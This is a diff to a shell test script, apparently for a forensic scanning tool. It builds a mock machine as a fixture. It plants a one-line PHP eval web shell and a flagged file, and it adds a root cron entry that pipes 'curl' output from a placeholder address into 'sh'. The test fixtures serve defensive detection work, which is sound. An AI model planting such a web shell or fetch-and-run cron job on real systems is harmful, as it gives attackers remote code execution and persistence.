@@ -20,7 +20,7 @@ printf 'type,value,description\nsha256,%s,Tệp thử\n' \
 "$atttcli" kit build --agency x-vi-huong --os linux --system-python --indicators "$work/danh-sach.csv" -o "$work/USB quét"
 "$atttcli" kit build --agency x-vi-huong --os linux --indicators "$work/danh-sach.csv" -o "$work/USB thu thập"
 
-say 'A machine of the commune: no network, no atttcli; a web shell and a file that a list names'
+say 'A machine of the commune: no network, no atttcli; a web shell, a file that a list names, a job'
 machine="$work/máy"
 mkdir -p "$machine/etc" "$machine/srv/www" "$machine/home/can-bo" "$machine/media/usb" "$machine/proc" "$machine/dev" \
     "$machine/tmp" "$machine/var/tmp" "$machine/usr/bin" "$machine/usr/lib"
@@ -55,6 +55,8 @@ echo '5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e' >"$machine/etc/machine-id"
 printf '<?php @eval($_POST["x"]); ?>' >"$machine/srv/www/anh.php"
 printf 'tệp xấu trong danh sách' >"$machine/tmp/cap-nhat"
 chmod 755 "$machine/tmp/cap-nhat"
+mkdir -p "$machine/etc/cron.d"
+echo '* * * * * root curl -s http://192.0.2.7/x | sh' >"$machine/etc/cron.d/cap-nhat"
 : >"$machine/dev/null"
 
 on_machine() { # STICK: start what a person would start
